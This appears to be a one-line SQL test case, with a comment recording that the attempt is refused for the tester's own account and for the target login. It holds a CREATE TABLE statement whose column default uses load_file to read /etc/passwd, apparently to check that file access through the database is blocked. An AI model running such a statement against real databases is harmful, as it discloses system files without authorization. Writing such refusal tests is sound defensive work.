-- own account: refused; login of the target: refused
CREATE TABLE a (l text DEFAULT (load_file('/etc/passwd')));
